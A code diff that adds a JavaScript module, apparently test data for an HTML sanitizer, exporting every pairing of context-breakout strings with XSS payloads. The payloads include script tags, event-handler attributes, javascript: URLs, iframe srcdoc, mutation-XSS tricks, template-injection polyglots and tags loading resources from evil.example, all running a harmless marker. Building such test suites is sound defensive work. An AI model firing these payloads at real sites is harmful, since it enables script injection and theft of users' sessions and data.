@@ -1,0 +1,47 @@
+const MARKER = "ran.push(1)";
+const BREAKOUTS = [
+  "",
+  '"',
+  "'",
+  '">',
+  "'>",
+  "</script>",
+  "</textarea>",
+  "</title>",
+  "</style>",
+  "-->",
+  "]]>",
+  "`",
+  '\\"',
+  "*/",
+  "&quot;>",
+  "%22%3E",
+  "\u2028",
+  "{{",
+  "${",
+];
+const SCRIPTS = [
+  `<script>${MARKER}</script>`,
+  `<ScRiPt/x>${MARKER}</ScRiPt\n>`,
+  `<img src=x onerror=${MARKER}>`,
+  `<img/src/onerror='${MARKER}'>`,
+  `<svg onload=${MARKER}>`,
+  `<svg><script>${MARKER}</script></svg>`,
+  `<math><mtext><style><img src onerror=${MARKER}>`,
+  `<iframe srcdoc="<script>parent.${MARKER}</script>">`,
+  `<iframe src=javascript:parent.${MARKER}>`,
+  `<body onload=${MARKER}>`,
+  `<details open ontoggle=${MARKER}>x</details>`,
+  `<input autofocus onfocus=${MARKER}>`,
+  `<video><source onerror=${MARKER}></video>`,
+  `<a href="javascript:${MARKER}" autofocus onfocus=${MARKER}>x</a>`,
+  `<style>@import'https://evil.example/s';*{background:url(https://evil.example/b)}</style>`,
+  `<link rel=stylesheet href=https://evil.example/l>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${MARKER}">`,
+  `<base href=https://evil.example/>`,
+  `<object data=https://evil.example/o></object><embed src=https://evil.example/e>`,
+  `\${${MARKER}};{{constructor.constructor('${MARKER}')()}};"-${MARKER}-"';${MARKER};//`,
+];
+
+/** Ways to make text run in a page, each after each way to leave the place where it stands. What runs is `ran.push(1)`. */
+export const xssPayloads = BREAKOUTS.flatMap((breakout) => SCRIPTS.map((script) => breakout + script));
